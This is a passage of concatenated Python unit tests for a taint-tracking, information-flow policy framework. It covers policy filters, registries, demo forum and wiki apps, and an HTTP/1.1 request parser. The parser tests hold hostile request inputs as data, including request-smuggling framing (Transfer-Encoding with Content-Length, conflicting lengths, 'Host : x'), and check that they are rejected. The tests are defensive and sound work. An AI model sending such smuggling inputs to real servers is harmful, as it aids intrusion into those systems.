from repro.tracking.tainted_str import TaintedStr

U = UntrustedData("x")


class TestPolicyAddRemoveGet:
    def test_add_to_str(self):
        value = policy_add("secret", U)
        assert isinstance(value, TaintedStr)
        assert policy_get(value) == PolicySet.of(U)

    def test_add_range_to_str(self):
        value = policy_add("abcdef", U, 1, 3)
        assert value.policies_at(1) == PolicySet.of(U)
        assert value.policies_at(3) == PolicySet.empty()

    def test_add_to_bytes_int_float(self):
        assert policy_get(policy_add(b"ab", U)) == PolicySet.of(U)
        assert policy_get(policy_add(7, U)) == PolicySet.of(U)
        assert policy_get(policy_add(1.5, U)) == PolicySet.of(U)

    def test_add_to_containers(self):
        data = policy_add({"k": ["v1", 2]}, U)
        assert policy_get(data) == PolicySet.of(U)

    def test_add_to_bool_rejected(self):
        with pytest.raises(TypeError):
            policy_add(True, U)

    def test_add_to_arbitrary_object_rejected(self):
        with pytest.raises(TypeError):
            policy_add(object(), U)

    def test_add_requires_policy(self):
        with pytest.raises(TypeError):
            policy_add("x", "not a policy")

    def test_remove(self):
        value = policy_add(policy_add("x", U), SQLSanitized())
        assert policy_get(policy_remove(value, U)) == PolicySet.of(SQLSanitized())

    def test_remove_from_plain_value_is_noop(self):
        assert policy_remove("plain", U) == "plain"

    def test_remove_from_container(self):
        data = policy_add(["a", "b"], U)
        assert policy_get(policy_remove(data, U)) == PolicySet.empty()

    def test_has_policy_every_char(self):
        partial = "safe" + policy_add("evil", U)
        assert has_policy(partial, UntrustedData)
        assert not has_policy(partial, UntrustedData, every_char=True)
        assert has_policy(policy_add("evil", U), UntrustedData,
                          every_char=True)

    def test_taint_untaint(self):
        value = taint("x", U, SQLSanitized())
        assert len(policy_get(value)) == 2
        assert policy_get(untaint(value)) == PolicySet.empty()


class TestDefaultFilter:
    def test_write_invokes_export_check(self):
        flt = DefaultFilter({"type": "http"})
        secret = policy_add("pw", PasswordPolicy("a@b.c"))
        with pytest.raises(PolicyViolation):
            flt.filter_write(secret)

    def test_write_allows_unannotated_data(self):
        assert DefaultFilter({"type": "http"}).filter_write("hello") == "hello"

    def test_func_checks_arguments(self):
        flt = DefaultFilter({"type": "http"})
        secret = policy_add("pw", PasswordPolicy("a@b.c"))
        with pytest.raises(PolicyViolation):
            flt.filter_func(len, (secret,), {})

    def test_func_forwards_result(self):
        assert DefaultFilter().filter_func(max, (1, 5), {}) == 5

    def test_read_passthrough(self):
        assert DefaultFilter().filter_read("x") == "x"


class TestFilterComposition:
    def test_declassify_filter_strips_type(self):
        flt = DeclassifyFilter([UntrustedData])
        value = policy_add("x", U)
        assert policy_get(flt.filter_write(value)) == PolicySet.empty()
        assert policy_get(flt.filter_read(value)) == PolicySet.empty()

    def test_declassify_filter_func(self):
        flt = DeclassifyFilter([UntrustedData])
        result = flt.filter_func(lambda: policy_add("x", U), (), {})
        assert policy_get(result) == PolicySet.empty()

    def test_chain_applies_in_order(self):
        calls = []

        class Recorder(Filter):
            def __init__(self, name):
                super().__init__()
                self.name = name

            def filter_write(self, data, offset=0):
                calls.append(self.name)
                return data

        chain = FilterChain([Recorder("a"), Recorder("b")])
        chain.filter_write("data")
        assert calls == ["a", "b"]

    def test_chain_read_reverses_order(self):
        calls = []

        class Recorder(Filter):
            def __init__(self, name):
                super().__init__()
                self.name = name

            def filter_read(self, data, offset=0):
                calls.append(self.name)
                return data

        chain = FilterChain([Recorder("a"), Recorder("b")])
        chain.filter_read("data")
        assert calls == ["b", "a"]

    def test_chain_rejects_non_filters(self):
        with pytest.raises(FilterError):
            FilterChain(["nope"])
        chain = FilterChain([])
        with pytest.raises(FilterError):
            chain.append("nope")

    def test_guard_function(self):
        flt = DeclassifyFilter([UntrustedData])
        guarded = guard_function(lambda v: v, flt)
        assert policy_get(guarded(policy_add("x", U))) == PolicySet.empty()
        assert filter_of(guarded) is flt

    def test_filter_of_channel_like(self):
        class Obj:
            pass

        obj = Obj()
        obj.filter = DefaultFilter()
        assert filter_of(obj) is obj.filter
        assert filter_of(object()) is None


class TestDefaultFilterRegistry:
    def test_make_default_filter_sets_type(self):
        flt = make_default_filter("email", {"email": "a@b.c"})
        assert flt.context["type"] == "email"
        assert flt.context["email"] == "a@b.c"

    def test_factory_override_and_reset(self):
        # Explicit mutation of the process-wide registry (the removed
        # free-function shims' replacement for code that really wants the
        # global shape).
        class Custom(Filter):
            pass

        default_registry().set_default_filter_factory("socket", Custom)
        assert isinstance(make_default_filter("socket"), Custom)
        default_registry().reset()
        assert isinstance(make_default_filter("socket"), DefaultFilter)

    def test_factory_must_return_filter(self):
        default_registry().set_default_filter_factory(
            "socket", lambda ctx: "nope")
        with pytest.raises(FilterError):
            make_default_filter("socket")
        default_registry().reset()

    def test_factory_must_be_callable(self):
        with pytest.raises(FilterError):
            default_registry().set_default_filter_factory("socket", "nope")


class TestCheckExportAndContext:
    def test_check_export_raises(self):
        secret = policy_add("pw", PasswordPolicy("a@b.c"))
        with pytest.raises(PolicyViolation):
            check_export(secret, {"type": "http"})

    def test_check_export_allows(self):
        secret = policy_add("pw", PasswordPolicy("a@b.c"))
        assert check_export(secret, {"type": "email", "email": "a@b.c"}) == secret

    def test_context_child_and_describe(self):
        ctx = FilterContext(type="http", user="alice")
        child = ctx.child(user="bob")
        assert ctx["user"] == "alice"
        assert child["user"] == "bob"
        assert "type='http'" in ctx.describe()
        assert ctx.channel_type == "http"

    def test_as_context(self):
        ctx = FilterContext(type="sql")
        assert as_context(ctx) is ctx
        assert as_context({"a": 1})["a"] == 1
        assert as_context(None) == {}


class TestOutputBuffer:
    def test_unbuffered_write_goes_to_sink(self):
        sink = []
        OutputBuffer(sink.append).write("x")
        assert sink == ["x"]

    def test_release_flushes(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        buffer.start()
        buffer.write("a")
        buffer.write("b")
        assert sink == []
        buffer.release()
        assert sink == ["a", "b"]

    def test_discard_with_alternate(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        buffer.start()
        buffer.write("secret")
        buffer.discard("Anonymous")
        assert sink == ["Anonymous"]

    def test_nested_buffers(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        buffer.start()
        buffer.write("outer")
        buffer.start()
        buffer.write("inner")
        buffer.discard()
        buffer.release()
        assert sink == ["outer"]

    def test_context_manager(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        with buffer:
            buffer.write("kept")
        assert sink == ["kept"]
        with pytest.raises(ValueError):
            with buffer:
                buffer.write("dropped")
                raise ValueError("boom")
        assert sink == ["kept"]

    def test_release_without_start_raises(self):
        buffer = OutputBuffer(lambda _: None)
        with pytest.raises(FilterError):
            buffer.release()
        with pytest.raises(FilterError):
            buffer.discard()

    def test_depth_and_flags(self):
        buffer = OutputBuffer(lambda _: None)
        assert not buffer.buffering
        buffer.start()
        assert buffer.buffering and buffer.depth == 1
