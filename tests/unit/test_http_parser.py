"""Unit tests for the incremental HTTP/1.1 request parser.

Hostile input is the norm here: truncated request lines, oversized headers,
smuggling-shaped framing, bad chunk lines.  Every rejection must carry the
right status code, and every limit must trip *while* bytes arrive — a
request that never completes still gets cut off at its limit.
"""

import pytest

from repro.server.http import ParseError, ParserLimits, RequestParser


def parse_one(raw: bytes, limits=None):
    parser = RequestParser(limits)
    parser.feed(raw)
    request = parser.next_request()
    assert request is not None, "expected a complete request"
    return request


class TestRequestLine:
    def test_simple_get(self):
        request = parse_one(b"GET /page?x=1 HTTP/1.1\r\nHost: a\r\n\r\n")
        assert request.method == "GET"
        assert request.path == "/page"
        assert request.query == {"x": "1"}
        assert request.version == "HTTP/1.1"
        assert request.body == b""

    def test_percent_decoding_in_path(self):
        request = parse_one(b"GET /a%20b/c HTTP/1.1\r\n\r\n")
        assert request.path == "/a b/c"

    def test_incremental_feed_one_byte_at_a_time(self):
        parser = RequestParser()
        raw = b"POST /x HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi"
        for index in range(len(raw)):
            parser.feed(raw[index:index + 1])
            request = parser.next_request()
            if index < len(raw) - 1:
                assert request is None
        assert request.body == b"hi"

    def test_truncated_request_line_yields_none_not_error(self):
        parser = RequestParser()
        parser.feed(b"GET /page HT")
        assert parser.next_request() is None
        assert not parser.idle  # half a request is buffered

    def test_overlong_request_line_is_414_even_without_newline(self):
        limits = ParserLimits(max_request_line=64)
        parser = RequestParser(limits)
        parser.feed(b"GET /" + b"a" * 100)  # no terminator in sight
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 414

    @pytest.mark.parametrize("line", [
        b"GET /page\r\n",             # two fields
        b"GET  /page HTTP/1.1\r\n",   # double space -> four fields
        b"G<T /page HTTP/1.1\r\n",    # bad method token
        b"GET /page HTTP/2.0\r\n",    # unsupported version
        b"GET /page HTTP/1.1extra\r\n",
    ])
    def test_malformed_request_lines_are_400(self, line):
        parser = RequestParser()
        parser.feed(line + b"x")  # ensure the line is terminated/abnormal
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400

    def test_stray_crlf_between_pipelined_requests_is_tolerated(self):
        parser = RequestParser()
        parser.feed(b"GET /a HTTP/1.1\r\n\r\n\r\nGET /b HTTP/1.1\r\n\r\n")
        assert parser.next_request().path == "/a"
        assert parser.next_request().path == "/b"

    def test_non_ascii_request_line_is_400(self):
        parser = RequestParser()
        parser.feed("GET /café HTTP/1.1\r\n\r\n".encode("utf-8"))
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400


class TestHeaders:
    def test_multi_value_headers_preserved_in_order(self):
        request = parse_one(
            b"GET / HTTP/1.1\r\n"
            b"Set-Thing: one\r\nHost: h\r\nSet-Thing: two\r\n\r\n"
        )
        assert request.header_values("set-thing") == ["one", "two"]
        assert request.header("SET-THING") == "one"

    def test_cookie_header_parses_to_jar(self):
        request = parse_one(
            b"GET / HTTP/1.1\r\nCookie: sid=abc; theme=dark\r\n\r\n")
        assert request.cookies == {"sid": "abc", "theme": "dark"}

    def test_oversized_header_section_is_431(self):
        limits = ParserLimits(max_header_bytes=128)
        parser = RequestParser(limits)
        parser.feed(b"GET / HTTP/1.1\r\nX-Pad: " + b"a" * 500)
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 431

    def test_too_many_header_fields_is_431(self):
        limits = ParserLimits(max_header_count=5)
        raw = b"GET / HTTP/1.1\r\n" + b"".join(
            b"X-%d: v\r\n" % i for i in range(6)) + b"\r\n"
        parser = RequestParser(limits)
        parser.feed(raw)
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 431

    @pytest.mark.parametrize("header", [
        b"NoColonHere\r\n",
        b"Bad Name: x\r\n",        # space inside the name
        b"Host : x\r\n",           # space before the colon (smuggling classic)
        b" folded: continuation\r\n",
    ])
    def test_malformed_header_lines_are_400(self, header):
        parser = RequestParser()
        parser.feed(b"GET / HTTP/1.1\r\nHost: ok\r\n" + header + b"\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400


class TestBodyFraming:
    def test_content_length_body(self):
        request = parse_one(
            b"POST /x HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello")
        assert request.body == b"hello"

    def test_declared_body_over_limit_is_413_before_any_body_byte(self):
        limits = ParserLimits(max_body_bytes=10)
        parser = RequestParser(limits)
        parser.feed(b"POST /x HTTP/1.1\r\nContent-Length: 11\r\n\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 413

    @pytest.mark.parametrize("value", [b"-1", b"abc", b"4,4"])
    def test_malformed_content_length_is_400(self, value):
        parser = RequestParser()
        parser.feed(b"POST /x HTTP/1.1\r\nContent-Length: " + value
                    + b"\r\n\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400

    def test_conflicting_content_lengths_are_400(self):
        parser = RequestParser()
        parser.feed(b"POST /x HTTP/1.1\r\n"
                    b"Content-Length: 4\r\nContent-Length: 5\r\n\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400

    def test_transfer_encoding_plus_content_length_is_400(self):
        # The textbook request-smuggling ambiguity: both framings present.
        parser = RequestParser()
        parser.feed(b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
                    b"Content-Length: 4\r\n\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400

    def test_unknown_transfer_encoding_is_400(self):
        parser = RequestParser()
        parser.feed(b"POST /x HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400


class TestChunkedBody:
    def test_chunked_body_reassembles(self):
        request = parse_one(
            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n")
        assert request.body == b"hello world"

    def test_chunk_extension_is_ignored(self):
        request = parse_one(
            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"5;ext=1\r\nhello\r\n0\r\n\r\n")
        assert request.body == b"hello"

    def test_trailer_fields_are_dropped(self):
        request = parse_one(
            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"2\r\nhi\r\n0\r\nX-Trailer: sneaky\r\n\r\n")
        assert request.body == b"hi"
        assert request.header("x-trailer") is None

    @pytest.mark.parametrize("framing", [
        b"zz\r\nhello\r\n0\r\n\r\n",     # non-hex size
        b"\r\nhello\r\n0\r\n\r\n",       # empty size line
        b"5\r\nhelloXX0\r\n\r\n",        # data not followed by CRLF
    ])
    def test_bad_chunk_framing_is_400(self, framing):
        parser = RequestParser()
        parser.feed(b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + framing)
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 400

    def test_chunked_body_over_limit_is_413(self):
        limits = ParserLimits(max_body_bytes=8)
        parser = RequestParser(limits)
        parser.feed(b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                    b"6\r\nsixsix\r\n6\r\nsixsix\r\n")
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 413

    def test_endless_trailers_are_431(self):
        limits = ParserLimits(max_header_count=3)
        parser = RequestParser(limits)
        parser.feed(b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                    b"0\r\n" + b"T: v\r\n" * 5)
        with pytest.raises(ParseError) as excinfo:
            parser.next_request()
        assert excinfo.value.status == 431


class TestParserLifecycle:
    def test_pipelined_requests_come_out_one_per_call(self):
        parser = RequestParser()
        parser.feed(b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n")
        assert parser.next_request().path == "/a"
        assert not parser.idle  # second request still buffered
        assert parser.next_request().path == "/b"
        assert parser.next_request() is None
        assert parser.idle

    def test_parser_is_poisoned_after_an_error(self):
        parser = RequestParser()
        parser.feed(b"BAD\r\n\r\n")
        with pytest.raises(ParseError):
            parser.next_request()
        with pytest.raises(ParseError):
            parser.next_request()  # still the same error
        with pytest.raises(ParseError):
            parser.feed(b"GET / HTTP/1.1\r\n\r\n")  # no resync allowed

    def test_keep_alive_semantics_by_version(self):
        assert parse_one(b"GET / HTTP/1.1\r\n\r\n").keep_alive
        assert not parse_one(
            b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n").keep_alive
        assert not parse_one(b"GET / HTTP/1.0\r\n\r\n").keep_alive
        assert parse_one(
            b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n").keep_alive
