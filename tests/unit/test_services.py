"""Environment-scoped application services: the ServiceRegistry, its
resolution helpers, and the phpBB CURRENT_BOARD migration."""

import threading

import pytest

from repro.core.exceptions import AccessDenied
from repro.core.request_context import RequestContext
from repro.core.services import ServiceRegistry, resolve_service
from repro.environment import Environment
from repro.runtime_api import Resin


class TestServiceRegistry:
    def test_register_get_resolve(self):
        registry = ServiceRegistry()
        sentinel = object()
        assert registry.register("app.thing", sentinel) is sentinel
        assert registry.get("app.thing") is sentinel
        assert registry.resolve("app.thing") is sentinel
        assert "app.thing" in registry
        assert registry.names() == ["app.thing"]
        assert len(registry) == 1

    def test_get_default_and_resolve_raises(self):
        registry = ServiceRegistry()
        assert registry.get("missing") is None
        assert registry.get("missing", 42) == 42
        with pytest.raises(LookupError, match="no service 'missing'"):
            registry.resolve("missing")

    def test_register_replaces_unless_told_otherwise(self):
        registry = ServiceRegistry()
        registry.register("svc", "first")
        registry.register("svc", "second")
        assert registry.get("svc") == "second"
        with pytest.raises(LookupError, match="already registered"):
            registry.register("svc", "third", replace=False)
        assert registry.get("svc") == "second"

    def test_unregister(self):
        registry = ServiceRegistry()
        registry.register("svc", "value")
        assert registry.unregister("svc") == "value"
        assert registry.unregister("svc") is None
        assert "svc" not in registry

    def test_environment_registries_are_scoped(self):
        env_a = Environment()
        env_b = Environment()
        env_a.services.register("board", "A")
        assert env_a.services.get("board") == "A"
        assert env_b.services.get("board") is None
        assert env_a.services.env is env_a


class TestResolution:
    def test_context_env_wins_over_request_env(self):
        env_ctx = Environment()
        env_req = Environment()
        env_ctx.services.register("svc", "from-context")
        env_req.services.register("svc", "from-request")
        channel = env_ctx.http_channel(user="u")
        with RequestContext(env=env_req, user="u"):
            assert resolve_service("svc", channel.context) == "from-context"

    def test_falls_back_to_request_env_then_default(self):
        env = Environment()
        env.services.register("svc", "from-request")
        with RequestContext(env=env, user="u"):
            assert resolve_service("svc", {}) == "from-request"
        assert resolve_service("svc", {}, default="fallback") == "fallback"

    def test_request_context_service_helper(self):
        env = Environment()
        env.services.register("svc", "value")
        rctx = RequestContext(env=env, user="u")
        assert rctx.service("svc") == "value"
        assert rctx.service("missing", "d") == "d"
        assert RequestContext(env=None).service("svc") is None

    def test_resin_facade_accessors(self):
        resin = Resin(Environment())
        resin.services.register("svc", "value")
        assert resin.services is resin.env.services
        assert resin.service("svc") == "value"
        assert resin.service("missing", "d") == "d"


class TestPhpBBBoardService:
    def _board(self, **kwargs):
        from repro.apps.phpbb import PhpBB
        board = PhpBB(Environment(), use_xss_assertion=False, **kwargs)
        board.create_forum(1, "public")
        board.create_forum(2, "staff", allowed_users=["admin"])
        board.post_message(10, 2, "admin", "salaries", "the secret salaries")
        board.post_message(11, 1, "admin", "welcome", "hello world")
        return board

    def test_board_registered_as_environment_service(self):
        from repro.apps import phpbb
        board = self._board()
        assert board.env.services.get(phpbb.BOARD_SERVICE) is board
        assert phpbb.current_board(env=board.env) is board

    def test_current_board_resolves_through_request_context(self):
        from repro.apps import phpbb
        board = self._board()
        assert phpbb.current_board() is None
        with RequestContext(env=board.env, user="admin"):
            assert phpbb.current_board() is board

    def test_current_board_module_global_shim_warns(self):
        from repro.apps import phpbb
        board = self._board()
        with pytest.warns(DeprecationWarning, match="CURRENT_BOARD is deprecated"):
            assert phpbb.CURRENT_BOARD is board

    def test_no_module_global_board_beyond_the_shim(self):
        """The contextvar and the writable module global are gone; the only
        module-level spelling left is the warning shim."""
        from repro.apps import phpbb
        assert "_BOARD_VAR" not in vars(phpbb)
        assert "CURRENT_BOARD" not in vars(phpbb)   # only via __getattr__

    def test_forum_policy_enforced_at_email_boundary(self):
        """The mail transport forwards its environment to every per-message
        channel, so ForumMessagePolicy still resolves the board (and denies)
        when a restricted message is e-mailed outside any request."""
        board = self._board()
        body = board.env.db.query(
            "SELECT body FROM messages WHERE msg_id = 10").scalar()
        with pytest.raises(AccessDenied):
            board.env.mail.send(to="mallory@example.org",
                                subject="leak", body=body)
        assert board.env.mail.sent_to("mallory@example.org") == []
        board.env.db.query(
            "UPDATE forums SET allowed_users = 'admin,a@b.c' "
            "WHERE forum_id = 2")
        board.env.mail.send(to="a@b.c", subject="ok", body=body)
        assert len(board.env.mail.sent_to("a@b.c")) == 1

    def test_two_boards_enforce_independently_under_concurrency(self):
        """Policies resolve the board through the channel's environment:
        concurrent exports against two boards never consult each other's
        permission tables."""
        board_a = self._board()
        board_b = self._board()
        # Same forum id, different membership: board B's staff forum also
        # admits "auditor" — only a B-scoped lookup lets auditor read.
        board_b.env.db.query(
            "UPDATE forums SET allowed_users = 'admin,auditor' "
            "WHERE forum_id = 2")
        barrier = threading.Barrier(2)
        outcomes = {}

        def attempt(name, board, user):
            barrier.wait(timeout=5)
            try:
                body = board.printable_view(10, user).body()
                outcomes[name] = ("ok", "secret salaries" in body)
            except AccessDenied:
                outcomes[name] = ("denied", None)

        threads = [
            threading.Thread(target=attempt,
                             args=("a", board_a, "auditor")),
            threading.Thread(target=attempt,
                             args=("b", board_b, "auditor")),
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=10)
        assert outcomes["a"] == ("denied", None)     # A never admits auditor
        assert outcomes["b"] == ("ok", True)         # B does


class TestHotCRPSiteService:
    def _site(self, **kwargs):
        from repro.apps.hotcrp import HotCRP
        site = HotCRP(Environment(), **kwargs)
        site.register_user("victim@example.org", "victim-password")
        return site

    def test_site_registered_as_environment_service(self):
        from repro.apps import hotcrp
        site = self._site()
        assert site.env.services.get(hotcrp.SITE_SERVICE) is site
        assert hotcrp.current_site(env=site.env) is site
        assert resolve_service(hotcrp.SITE_SERVICE,
                               site.env.http_channel().context) is site

    def test_current_site_resolves_through_request_context(self):
        from repro.apps import hotcrp
        site = self._site()
        assert hotcrp.current_site() is None
        with RequestContext(env=site.env, user="victim@example.org"):
            assert hotcrp.current_site() is site

    def test_two_sites_isolated_across_environments(self):
        from repro.apps import hotcrp
        site_a = self._site()
        site_b = self._site()
        assert hotcrp.current_site(env=site_a.env) is site_a
        assert hotcrp.current_site(env=site_b.env) is site_b
        assert site_a.env.services.get(hotcrp.SITE_SERVICE) is not site_b


class TestMoinMoinWikiService:
    def _wiki(self, **kwargs):
        from repro.apps.moinmoin import MoinMoin
        wiki = MoinMoin(Environment(), **kwargs)
        wiki.update_body("Front", "#acl All:read alice:read,write\nhello",
                         "alice")
        return wiki

    def test_wiki_registered_as_environment_service(self):
        from repro.apps import moinmoin
        wiki = self._wiki()
        assert wiki.env.services.get(moinmoin.WIKI_SERVICE) is wiki
        assert moinmoin.current_wiki(env=wiki.env) is wiki
        assert resolve_service(moinmoin.WIKI_SERVICE,
                               wiki.env.http_channel().context) is wiki

    def test_current_wiki_resolves_through_request_context(self):
        from repro.apps import moinmoin
        wiki = self._wiki()
        assert moinmoin.current_wiki() is None
        with RequestContext(env=wiki.env, user="alice"):
            assert moinmoin.current_wiki() is wiki

    def test_two_wikis_isolated_across_environments(self):
        """Same page names, different content and ACLs: each environment's
        routed front end serves (and denies) from its own wiki only."""
        from repro.apps import moinmoin
        from repro.web import Request
        wiki_a = self._wiki()
        wiki_b = self._wiki()
        wiki_b.update_body("Front",
                           "#acl bob:read alice:read,write\nB-only text",
                           "alice")
        assert moinmoin.current_wiki(env=wiki_a.env) is wiki_a
        assert moinmoin.current_wiki(env=wiki_b.env) is wiki_b
        page_a = wiki_a.web.handle(Request("/wiki/Front", user="carol"))
        assert "hello" in page_a.body()
        with pytest.raises(AccessDenied):
            wiki_b.web.handle(Request("/wiki/Front", user="carol"))
        page_b = wiki_b.web.handle(Request("/wiki/Front", user="bob"))
        assert "B-only text" in page_b.body()
