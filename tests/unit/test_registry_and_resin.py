"""Unit tests for the environment-scoped filter registry and the fluent
``Resin`` runtime facade."""

import pytest

from repro.core import (DefaultFilter, Filter, FilterRegistry,
                        default_registry, make_default_filter)
from repro.core.exceptions import (DisclosureViolation, FilterError,
                                   InjectionViolation,
                                   ScriptInjectionViolation)
from repro.core.policyset import PolicySet
from repro.core.registry import resolve_registry
from repro.channels.httpout import HTTPOutputChannel
from repro.channels.socketchan import SocketChannel
from repro.environment import Environment
from repro.policies import PasswordPolicy, SQLSanitized, UntrustedData
from repro.runtime_api import BoundPolicy, Resin


class Custom(Filter):
    pass


class TestFilterRegistry:
    def test_local_override_and_reset(self):
        registry = FilterRegistry()
        registry.set_default_filter_factory("socket", Custom)
        assert isinstance(registry.make_default_filter("socket"), Custom)
        assert registry.overrides() == ("socket",)
        registry.reset("socket")
        assert isinstance(registry.make_default_filter("socket"),
                          DefaultFilter)

    def test_parent_fallback(self):
        parent = FilterRegistry()
        parent.set_default_filter_factory("code", Custom)
        child = parent.child()
        assert isinstance(child.make_default_filter("code"), Custom)
        assert child.has_override("code")
        assert not child.has_override("code", inherited=False)
        # A local override shadows the parent; resetting it re-exposes it.
        child.set_default_filter_factory("code", DefaultFilter)
        assert isinstance(child.make_default_filter("code"), DefaultFilter)
        child.reset()
        assert isinstance(child.make_default_filter("code"), Custom)

    def test_sibling_registries_do_not_interfere(self):
        a, b = FilterRegistry(), FilterRegistry()
        a.set_default_filter_factory("code", Custom)
        assert isinstance(a.make_default_filter("code"), Custom)
        assert isinstance(b.make_default_filter("code"), DefaultFilter)

    def test_factory_must_be_callable(self):
        with pytest.raises(FilterError):
            FilterRegistry().set_default_filter_factory("socket", "nope")

    def test_factory_must_return_filter(self):
        registry = FilterRegistry()
        registry.set_default_filter_factory("socket", lambda ctx: "nope")
        with pytest.raises(FilterError):
            registry.make_default_filter("socket")

    def test_resolve_registry_preference_order(self):
        explicit = FilterRegistry()
        env = Environment()
        assert resolve_registry(explicit, env) is explicit
        assert resolve_registry(None, env) is env.registry
        assert resolve_registry(None, None) is default_registry()
        with pytest.raises(FilterError):
            resolve_registry("not a registry")


class TestContextMergeRegression:
    """``make_default_filter`` with a factory that builds its own context.

    Regression tests for the context-merge branch: the factory's explicit
    keys — including ``"type"`` — must survive the merge, and the filter
    must share one live context object with the channel so later channel
    mutations (``set_user``) stay visible to the filter."""

    def test_factory_type_key_survives_merge(self):
        registry = FilterRegistry()
        registry.set_default_filter_factory(
            "code", lambda ctx: DefaultFilter({"type": "factory-type",
                                               "who": "factory"}))
        flt = registry.make_default_filter("code", {"origin": "/x"})
        assert flt.context["type"] == "factory-type"
        assert flt.context["who"] == "factory"
        assert flt.context["origin"] == "/x"

    def test_merged_context_is_shared_with_channel(self):
        registry = FilterRegistry()
        registry.set_default_filter_factory(
            "http", lambda ctx: DefaultFilter({"site": "demo"}))
        channel = HTTPOutputChannel(registry=registry)
        default = channel.filter.filters[0]
        assert default.context is channel.context
        assert channel.context["site"] == "demo"

    def test_set_user_visible_to_factory_built_filter(self):
        # The pre-fix code built a divorced merged dict: the default filter
        # never saw set_user(), so a policy that admits the data's owner saw
        # user=None and wrongly blocked the owner's own session.
        from repro.core.policy import Policy

        class OwnerOnly(Policy):
            def __init__(self, owner):
                self.owner = owner

            def export_check(self, context):
                if context.get("user") != self.owner:
                    raise DisclosureViolation(
                        f"only {self.owner!r} may see this",
                        policy=self, context=context)

        registry = FilterRegistry()
        registry.set_default_filter_factory(
            "http", lambda ctx: DefaultFilter({"site": "demo"}))
        channel = HTTPOutputChannel(registry=registry)
        channel.set_user("alice@example.org")
        note = Resin(Environment()).taint("for alice's eyes",
                                          OwnerOnly("alice@example.org"))
        channel.write(note)              # owner's own session: allowed
        assert "for alice's eyes" in channel.body()
        stranger = HTTPOutputChannel(registry=registry)
        stranger.set_user("mallory@example.org")
        with pytest.raises(DisclosureViolation):
            stranger.write(note)


class TestProcessWideRegistry:
    # The deprecated free-function mutators are gone (they warned through
    # PR 2's deprecation cycle); the process-wide registry itself remains
    # the root of every chain and is mutated explicitly when wanted.

    def test_deprecated_mutator_shims_are_removed(self):
        import repro
        import repro.core
        for module in (repro, repro.core):
            for name in ("set_default_filter_factory",
                         "reset_default_filters"):
                with pytest.raises(AttributeError):
                    getattr(module, name)
        assert "set_default_filter_factory" not in repro.__all__
        assert "reset_default_filters" not in repro.core.__all__

    def test_explicit_default_registry_mutation_still_works(self):
        default_registry().set_default_filter_factory("socket", Custom)
        try:
            assert isinstance(make_default_filter("socket"), Custom)
            assert default_registry().has_override("socket")
            # A channel with no registry/env falls back to the process-wide
            # registry (pre-registry behaviour).
            assert isinstance(SocketChannel().filter.filters[0], Custom)
        finally:
            default_registry().reset()
        assert isinstance(make_default_filter("socket"), DefaultFilter)

    def test_environment_inherits_process_overrides(self):
        default_registry().set_default_filter_factory("socket", Custom)
        try:
            env = Environment()
            assert isinstance(env.socket().filter.filters[0], Custom)
        finally:
            default_registry().reset()

    def test_environment_override_does_not_leak_to_process(self):
        env = Environment()
        env.registry.set_default_filter_factory("socket", Custom)
        assert isinstance(env.socket().filter.filters[0], Custom)
        assert isinstance(make_default_filter("socket"), DefaultFilter)
        assert isinstance(SocketChannel().filter.filters[0], DefaultFilter)


class TestResinFacade:
    def test_taint_policies_declassify(self, resin):
        value = resin.taint("x", UntrustedData("t"), SQLSanitized())
        assert len(resin.policies(value)) == 2
        assert resin.has_policy(value, UntrustedData)
        value = resin.remove(value, SQLSanitized())
        assert resin.policies(value) == PolicySet.of(UntrustedData("t"))
        assert resin.policies(resin.declassify(value)) == PolicySet.empty()

    def test_policy_binder(self, resin):
        binder = resin.policy(PasswordPolicy, "a@b.c")
        assert isinstance(binder, BoundPolicy)
        secret = binder.on("pw")
        assert resin.has_policy(secret, PasswordPolicy)
        with pytest.raises(TypeError):
            resin.policy(str)

    def test_channel_kinds(self, resin):
        assert resin.channel("http", user="u").context["user"] == "u"
        assert resin.channel("socket", "peer1").peer == "peer1"
        assert resin.channel("pipe", "sendmail").command == "sendmail"
        assert resin.channel("email", "a@b.c").context["email"] == "a@b.c"
        assert resin.channel("sql") is resin.env.db
        assert resin.channel("code").channel_type == "code"
        with pytest.raises(FilterError):
            resin.channel("carrier-pigeon")

    def test_channels_use_environment_registry(self, resin):
        resin.set_default_filter(
